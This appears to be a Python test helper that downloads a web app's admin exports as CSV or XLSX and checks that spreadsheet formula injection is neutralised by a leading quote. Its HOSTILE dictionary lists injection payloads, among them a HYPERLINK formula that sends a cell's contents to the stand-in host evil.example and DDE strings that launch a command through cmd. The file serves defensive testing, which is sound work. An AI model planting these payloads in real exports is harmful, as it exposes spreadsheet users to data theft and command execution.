"""Downloading an admin export as the user does and reading it back as a spreadsheet would."""

import csv
import io

from openpyxl import load_workbook

# What a member could type into any text field, one per trigger character OWASP lists.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?d="&C2,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def download_rows(client, url, export_format, **params):
    """The exported cells as lists of values, the heading row first."""
    response = client.get(url, {"export": export_format, **params})
    assert response.status_code == 200, response.status_code
    if export_format == "csv":
        return list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(_body(response)), read_only=True).active
    return [["" if cell is None else cell for cell in row] for row in sheet.iter_rows(values_only=True)]


def assert_neutralised(rows, values):
    """Each hostile value is in the export as text: with the leading quote, never bare."""
    # XML (so XLSX) reads a carriage return back as a line feed.
    cells = [cell.replace("\r", "\n") for row in rows for cell in row if isinstance(cell, str)]
    for value in (value.replace("\r", "\n") for value in values):
        assert "'" + value in cells, (value, cells)
        assert value not in cells, value
